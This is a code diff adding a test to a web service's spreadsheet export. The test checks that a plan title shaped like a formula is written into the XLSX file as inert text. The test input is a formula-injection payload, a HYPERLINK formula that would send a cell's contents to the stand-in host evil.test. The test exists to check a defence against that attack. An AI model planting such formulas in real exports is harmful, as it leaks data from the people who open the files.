@@ -224,6 +224,22 @@ def test_bulletin_xlsx_export(session, client_factory):
     assert client_factory().login("ip_user").get(f"/bulletins/{world.plans['city']}").status_code == 403
 
 
+def test_bulletin_xlsx_writes_a_formula_like_title_as_text(session, client_factory):
+    from io import BytesIO
+
+    from openpyxl import load_workbook
+
+    from service.plans.models import Plan
+
+    world = build_world(session)
+    session.get(Plan, world.plans["city"]).title = '=HYPERLINK("http://evil.test/?x="&A3,"click")'
+    session.commit()
+    response = client_factory().login("city_admin").get(f"/bulletins/{world.plans['city']}.xlsx")
+    title = load_workbook(BytesIO(response.content))["单位排名"]["A1"]
+    assert title.value.startswith("=HYPERLINK(")
+    assert title.data_type == "s" and title.quotePrefix
+
+
 def test_import_map_and_activate_the_guangzhou_plan(session, client_factory):
     from pathlib import Path
 
